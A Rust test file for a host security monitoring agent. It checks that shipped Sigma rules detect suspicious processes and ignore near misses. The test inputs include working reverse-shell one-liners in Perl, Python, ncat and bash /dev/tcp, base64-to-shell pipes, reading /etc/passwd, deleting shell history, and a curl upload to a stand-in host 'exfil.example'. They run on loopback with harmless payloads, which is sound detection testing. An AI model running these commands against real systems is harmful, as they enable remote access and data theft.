//! The shipped Sigma rules (`rules/sigma/`) end to end: for every rule, a real process does
//! what the rule describes and the agent raises `sigma:<id>` with the rule's title, level and
//! authors (positive); a near miss raises nothing of that rule (negative). Plus a filter
//! document and `monitor rules check` on a malformed Sigma file.
//!
//! One agent serves the whole binary: the shipped rules and `--watch-all`, so Sigma applies to
//! every process. Each case works in its own directory; sockets are on loopback only.
//!
//! Negatives end with a sentinel: `cat DIR/.bash_history` (the shipped "Print History File
//! Contents" rule). The agent handles events in order, so once the sentinel's alert is out, an
//! alert for the near miss, which ran before it, would have been too.

use std::{fs, process::Command};

use monitor_tests::{
    ReservedPort, TempDir, agent_binary, path_str,
    rules::write_file,
    sigma::{Case, HISTORY_RECON, agent, exec_rule, expect_none, expect_sigma, listener, run},
};

#[test]
fn reverse_shells() {
    let p = listener("127.0.0.1").to_string();
    let perl = format!(
        "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\
         if(connect(S,sockaddr_in({p},inet_aton(\"127.0.0.1\")))){{open(STDIN,\">&S\");\
         open(STDOUT,\">&S\");exec(\"/bin/true\");}};"
    );
    exec_rule(
        "259df6bc-003f-4306-9f54-4ff1a08fa38e",
        "perl",
        &["perl", "-e", &perl],
        &["perl", "-e", "print \"Socket connect\\n\""],
    );
    let python = format!(
        "import socket,pty,os;s=socket.socket();s.connect(('127.0.0.1',{p}));\
         [os.dup2(s.fileno(),f) for f in (0,1)];pty.spawn('/bin/true')"
    );
    exec_rule(
        "32e62bc7-3de0-4bb1-90af-532978fe42c0",
        "python-revshell",
        &["python3", "-c", &python],
        &[
            "python3",
            "-c",
            &format!("import socket;socket.create_connection(('127.0.0.1',{p}))"),
        ],
    );
    exec_rule(
        "7f734ed0-4f47-46c0-837f-6ee62505abd9",
        "ncat",
        &["ncat", "-e", "/bin/sh", "127.0.0.1", &p],
        &["ncat", "--send-only", "127.0.0.1", &p],
    );
}

#[test]
fn a_shell_connecting_out_is_a_reverse_shell_indicator() {
    let agent = agent();
    let case = Case::new("bash-tcp");
    let id = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871";
    let other = listener("127.0.0.2");
    let pid = run(
        &agent,
        &["bash", "-c", &format!("exec 3<>/dev/tcp/127.0.0.2/{other}")],
        case.dir.path(),
    );
    let alert = expect_sigma(&agent, id, pid);
    assert_eq!(alert["event"]["remote_addr"], "127.0.0.2", "{alert}");
    let local = listener("127.0.0.1");
    let pid = run(
        &agent,
        &["bash", "-c", &format!("exec 3<>/dev/tcp/127.0.0.1/{local}")],
        case.dir.path(),
    );
    expect_none(&agent, &case, id, pid);
}

#[test]
fn base64_decoded_into_a_shell_or_python() {
    exec_rule(
        "ba592c6d-6888-43c3-b8c6-689b8fe47337",
        "b64-pipe",
        &["sh", "-c", "echo dHJ1ZQo= | base64 -d | sh"],
        &["sh", "-c", "echo dHJ1ZQo= | base64 -d > DIR/out"],
    );
    exec_rule(
        "fe2f9663-41cb-47e2-b954-8a228f3b9dff",
        "b64-shebang",
        &[
            "sh",
            "-c",
            "echo IyEvYmluL2Jhc2gKdHJ1ZQo= | base64 -d > DIR/s.sh",
        ],
        &["sh", "-c", "echo dHJ1ZQo= | base64 -d > DIR/s.sh"],
    );
    exec_rule(
        "55e862a8-dd9c-4651-807a-f21fcad56716",
        "python-b64",
        &[
            "python3",
            "-c",
            "import base64; exec(base64.b64decode('cGFzcwo='))",
        ],
        &[
            "python3",
            "-c",
            "import base64; print(base64.b64encode(b'x'))",
        ],
    );
}

#[test]
fn python_pty_and_web_server() {
    exec_rule(
        "c4042d54-110d-45dd-a0e1-05c47822c937",
        "pty",
        &["python3", "-c", "import pty; pty.spawn('/bin/true')"],
        &["python3", "-c", "import pty; print(pty.CHILD)"],
    );
    exec_rule(
        "3f0f5957-04f8-4792-ad89-192b0303bde6",
        "http-server",
        &[
            "timeout",
            "1",
            "python3",
            "-m",
            "http.server",
            "--bind",
            "127.0.0.1",
            "0",
        ],
        &["python3", "-m", "json.tool", "--help"],
    );
}

#[test]
fn history_deleted_or_printed() {
    exec_rule(
        "1182f3b3-e716-4efa-99ab-d2685d04360f",
        "history-rm",
        &["rm", "DIR/.bash_history"],
        &["rm", "DIR/notes.txt"],
    );
    exec_rule(
        HISTORY_RECON,
        "history-cat",
        &["tail", "DIR/.bash_history"],
        &["tail", "DIR/notes.txt"],
    );
}

#[test]
fn discovery_recon_and_exfiltration_tools() {
    exec_rule(
        "c9d8b7fd-78e4-44fe-88f6-599135d46d60",
        "grep-edr",
        &["grep", "-c", "falcond", "DIR/notes.txt"],
        &["grep", "-c", "nginx", "DIR/notes.txt"],
    );
    exec_rule(
        "0cf7a157-8879-41a2-8f55-388dd23746b7",
        "find-suid",
        &["find", "DIR", "-perm", "-4000", "-type", "f"],
        &["find", "DIR", "-type", "f"],
    );
    exec_rule(
        "b45e3d6f-42c6-47d8-a478-df6bd6cf534c",
        "accounts",
        &["cat", "/etc/passwd"],
        &["cat", "/etc/hostname"],
    );
    exec_rule(
        "72f4ab3f-787d-495d-a55d-68c2ff46cf4c",
        "proxy",
        &["env", "https_proxy=http://127.0.0.1:9", "true"],
        &["env", "LANG=C", "true"],
    );
    // Nothing listens on the port: curl's connection is refused, the exec is what counts.
    let port = ReservedPort::new();
    let p = port.port().to_string();
    exec_rule(
        "00b90cc1-17ec-402c-96ad-3a8117d7a582",
        "curl-upload",
        &[
            "curl",
            "-s",
            "-m",
            "3",
            "--resolve",
            &format!("exfil.example:{p}:127.0.0.1"),
            "--data-binary",
            "@DIR/notes.txt",
            &format!("http://exfil.example:{p}/"),
        ],
        &[
            "curl",
            "-s",
            "-m",
            "3",
            "--data-binary",
            "@DIR/notes.txt",
            &format!("http://127.0.0.1:{p}/"),
        ],
    );
}

#[test]
fn a_miner_s_command_line() {
    let case_script = "import sys, time\nend = time.time() + 0.2\nwhile time.time() < end: pass\n";
    let dir = TempDir::new("sigma-miner-script");
    let script = path_str(write_file(dir.join("miner.py"), case_script));
    exec_rule(
        "9069ea3c-b213-4c52-be13-86506a227ab1",
        "miner",
        &[
            "python3",
            &script,
            "--donate-level=0",
            "-o",
            "stratum+tcp://127.0.0.1:3333",
        ],
        &[
            "python3",
            &script,
            "--threads=2",
            "-o",
            "http://127.0.0.1:3333",
        ],
    );
}

#[test]
fn a_filter_document_suppresses_the_rule_it_names() {
    let agent = agent();
    let case = Case::new("filter");
    let filtered = case.dir.join("sigma-filtered");
    fs::create_dir_all(&filtered).expect("dir");
    write_file(filtered.join(".bash_history"), "ls\n");
    let pid = run(
        &agent,
        &["cat", &path_str(filtered.join(".bash_history"))],
        case.dir.path(),
    );
    expect_none(&agent, &case, HISTORY_RECON, pid);
}

#[test]
fn rules_check_names_the_file_line_and_key_of_a_bad_sigma_rule() {
    let dir = TempDir::new("sigma-bad");
    let rule = "title: Bad
id: 00000000-0000-4000-8000-000000000001
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contians: x
    condition: selection
level: high
";
    let path = write_file(dir.join("bad.yml"), rule);
    let out = Command::new(agent_binary())
        .args(["rules", "check"])
        .arg(&path)
        .output()
        .expect("monitor rules check");
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    let want = format!(
        "{}:8: key `detection.selection.CommandLine|contians`",
        path_str(&path)
    );
    assert!(stderr.contains(&want), "wanted {want:?} in:\n{stderr}");
}
